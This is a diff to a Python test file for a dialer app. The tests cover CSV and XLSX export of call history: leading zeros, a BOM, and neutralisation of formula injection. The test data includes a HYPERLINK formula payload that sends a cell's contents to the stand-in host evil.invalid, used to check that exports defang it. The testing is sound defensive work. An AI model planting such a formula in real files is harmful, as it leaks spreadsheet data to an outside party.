@@ -1,17 +1,20 @@
-"""CSV export: from the history file to a spreadsheet and back without losing a digit."""
+"""Exports: from the history file to a spreadsheet and back without losing a digit, and
+without a cell that a spreadsheet would run as a formula."""
 
 from __future__ import annotations
 
 import csv
+from dataclasses import fields, replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
 from dialer_app.app import main
-from dialer_app.core.export import FIELDS, write_csv
+from dialer_app.core.export import FIELDS, neutralise, write_csv, write_history, write_xlsx
 from dialer_app.core.history import HistoryStore
-from dialer_app.core.records import CallRequest, CallResult, HistoryQuery, Outcome
+from dialer_app.core.records import CallRequest, CallResult, Campaign, HistoryQuery, Outcome
+from tests.support.xlsx import read_sheet
 
 T0 = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)
 
@@ -28,7 +31,7 @@ def store(data_dir: Path) -> HistoryStore:
 
 
 def read(path: Path) -> list[dict[str, str]]:
-    with path.open(newline="", encoding="utf-8") as handle:
+    with path.open(newline="", encoding="utf-8-sig") as handle:
         return list(csv.DictReader(handle))
 
 
@@ -47,7 +50,8 @@ def test_round_trip_keeps_numbers_as_text_and_times_with_their_zone(
     when = datetime.fromisoformat(rows[0]["time"])
     assert when.utcoffset() is not None
     assert when == T0 + timedelta(days=2)
-    raw = target.read_text(encoding="utf-8")
+    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
+    raw = target.read_text(encoding="utf-8-sig")
     assert '"0987654321"' in raw  # quoted: spreadsheets read it as text
     assert ",60," in raw  # counts stay numbers
 
@@ -83,3 +87,106 @@ def test_command_line_export_with_since(
     assert main(["--data-dir", str(data_dir), "--export-history", str(target),
                  "--since", "last week"]) == 2  # fmt: skip
     assert "--since takes a date" in capsys.readouterr().err
+
+
+def test_cli_writes_xlsx_by_extension_and_refuses_other_formats(
+    store: HistoryStore, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    store.close()
+    target = tmp_path / "cli.xlsx"
+    assert main(["--data-dir", str(data_dir), "--export-history", str(target)]) == 0
+    rows = read_sheet(target)
+    assert [cell.value for cell in rows[0]] == [name for name, _ in FIELDS]
+    assert len(rows) == 4
+    assert "Exported 3 calls" in capsys.readouterr().out
+    assert main(["--data-dir", str(data_dir), "--export-history", str(tmp_path / "a.ods")]) == 2
+    assert ".csv or .xlsx" in capsys.readouterr().err
+
+
+def test_xlsx_keeps_leading_zeros_as_text_and_counts_as_numbers(
+    store: HistoryStore, tmp_path: Path
+) -> None:
+    target = tmp_path / "history.xlsx"
+    assert write_history(store.iter_rows(HistoryQuery()), target) == 3
+    header, first, *_ = read_sheet(target)
+    by_name = {name.value: cell for name, cell in zip(header, first, strict=False)}
+    for column in ("deskphone", "member_number", "campid"):
+        assert by_name[column].kind == "text"
+    assert by_name["deskphone"].value == "01204000000"
+    assert by_name["member_number"].value == "08120000000"
+    assert by_name["campid"].value == "0357"
+    assert by_name["call_limit_seconds"] == by_name["call_limit_seconds"].__class__("60", "number")
+
+
+# -- formula cells: every prefix a spreadsheet evaluates, in every text column --------------
+PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+PAYLOAD = 'HYPERLINK("https://evil.invalid/?"&A1,"Click")'
+TEXT_FIELDS = [field.name for field in fields(Campaign) if field.type in ("str", "str | None")]
+EXPORTED_TEXT = {  # export column -> the Campaign field it shows
+    "member": "member_name",
+    "member_number": "member_number",
+    "customer_number": "customer_number",
+    "deskphone": "deskphone",
+    "campid": "campid",
+    "message": "message",
+    "coins": "coins",
+    "recording_url": "recording_url",
+}
+
+
+def hostile_row(field: str, value: str) -> Campaign:
+    base = Campaign(
+        row_id=1, created_at=T0, member_name="Asha", member_number="8120000000",
+        customer_number="9876543210", deskphone="01204000000", call_limit=0,
+        outcome=Outcome.PLACED, campid="1", message="ok", finished_at=T0,
+    )  # fmt: skip
+    return replace(base, **{field: value})
+
+
+def test_every_text_field_of_a_row_is_an_exported_column() -> None:
+    assert set(EXPORTED_TEXT.values()) == set(TEXT_FIELDS)
+
+
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+@pytest.mark.parametrize("column", sorted(EXPORTED_TEXT))
+def test_csv_neutralises_a_formula_in_every_column(
+    tmp_path: Path, column: str, prefix: str
+) -> None:
+    value = prefix + PAYLOAD
+    target = tmp_path / "hostile.csv"
+    write_csv([hostile_row(EXPORTED_TEXT[column], value)], target)
+    cell = read(target)[0][column]
+    assert cell == "'" + value
+    assert not cell.startswith(tuple(PREFIXES))
+
+
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+@pytest.mark.parametrize("column", sorted(EXPORTED_TEXT))
+def test_xlsx_writes_a_formula_in_every_column_as_inert_text(
+    tmp_path: Path, column: str, prefix: str
+) -> None:
+    value = prefix + PAYLOAD
+    target = tmp_path / "hostile.xlsx"
+    write_xlsx([hostile_row(EXPORTED_TEXT[column], value)], target)
+    header, row = read_sheet(target)
+    cell = row[[c.value for c in header].index(column)]
+    assert cell.kind == "text"  # a text cell is never evaluated: kept exactly as stored
+    assert cell.value == value
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("+919876543210", "+919876543210"),  # a number: inert, kept as it is
+        ("-5", "-5"),
+        ("+91 98765 43210", "'+91 98765 43210"),  # a formula of two numbers: neutralised
+        ("=1+1", "'=1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\u202e=1+1", "'=1+1"),  # a direction control cannot hide the formula
+        ("Asha", "Asha"),
+        ("", ""),
+    ],
+)
+def test_neutralise_changes_only_what_could_run(value: str, written: str) -> None:
+    assert neutralise(value) == written
